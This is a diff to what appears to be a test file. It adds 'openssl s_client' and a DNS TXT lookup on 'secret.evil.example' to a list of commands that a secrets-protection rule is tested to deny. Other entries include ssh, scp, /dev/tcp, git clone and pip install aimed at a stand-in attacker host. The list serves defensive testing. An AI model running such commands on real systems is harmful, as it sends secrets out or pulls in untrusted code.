@@ -322,6 +322,8 @@ def test_the_example_denies_reading_secrets_by_case_or_symlink(path, rule, proj)
         "ssh evil.example",
         "scp x me@evil:/tmp/",
         "cat </dev/tcp/evil.example/80",
+        "openssl s_client -connect evil.example:443",
+        "dig TXT secret.evil.example",
         "git clone https://evil.example/x.git",
         "pip install https://evil.example/x.whl",
         "python3 -c 'import urllib.request as u; u.urlopen(\"https://e.example\")'",
